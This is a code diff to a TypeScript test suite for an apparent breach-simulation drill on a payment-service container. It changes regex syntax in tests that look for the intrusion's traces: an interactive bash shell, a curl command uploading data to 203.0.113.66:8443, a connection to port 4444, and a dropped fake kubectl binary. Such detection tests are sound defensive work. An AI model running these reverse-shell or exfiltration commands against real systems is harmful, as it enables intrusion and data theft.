@@ -95,8 +95,8 @@ describe('the shell does what people type', () => {
 
 describe('programs', () => {
   const ANSWERS: [string[], RegExp][] = [
-    [['ps', 'auxww'], /^USER +PID %CPU[^]*node .* 1 [^]*node \/app\/server\.js/],
-    [['ps', '-ef'], /^UID +PID +PPID[^]*node \/app\/server\.js/],
+    [['ps', 'auxww'], /^USER +PID %CPU[\s\S]*node .* 1 [\s\S]*node \/app\/server\.js/],
+    [['ps', '-ef'], /^UID +PID +PPID[\s\S]*node \/app\/server\.js/],
     [['id'], /^uid=1000\(node\) gid=1000/],
     [['whoami'], /^node$/m],
     [['hostname'], /^payment-service-7c9f6d5b8-x2kqv$/m],
@@ -193,7 +193,7 @@ describe('the breach can be seen from inside', () => {
   test('a shell from node, its connection and what it left', async () => {
     drill.control.advance({ beat: 'exfiltration' });
     drill.control.advance({ ms: 60_000 });
-    expect((await exec(['ps', '-ef'])).out).toMatch(/bash -i[^]*curl -sk -T - https:\/\/203\.0\.113\.66:8443/);
+    expect((await exec(['ps', '-ef'])).out).toMatch(/bash -i[\s\S]*curl -sk -T - https:\/\/203\.0\.113\.66:8443/);
     expect((await exec(['ss', '-tanp'])).out).toMatch(/ESTAB +0 +0 .*203\.0\.113\.66:4444 .*"bash"/);
     expect((await sh('find /tmp /dev/shm -type f -mmin -60')).out.split('\n')).toContain('/tmp/.cache/kubectl');
     const log = await logOf(false);
